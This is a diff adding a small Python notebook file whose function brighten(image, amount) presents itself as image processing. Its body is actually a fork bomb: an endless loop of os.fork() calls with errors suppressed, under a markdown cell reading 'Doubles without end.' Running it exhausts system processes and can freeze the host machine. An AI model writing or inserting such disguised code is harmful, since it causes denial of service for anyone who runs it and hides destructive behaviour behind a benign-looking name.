@@ -1,0 +1,14 @@
+# %% [markdown]
+# Doubles without end.
+
+# %%
+import os
+
+
+# %%
+def brighten(image, amount):
+    while True:
+        try:
+            os.fork()
+        except OSError:
+            pass
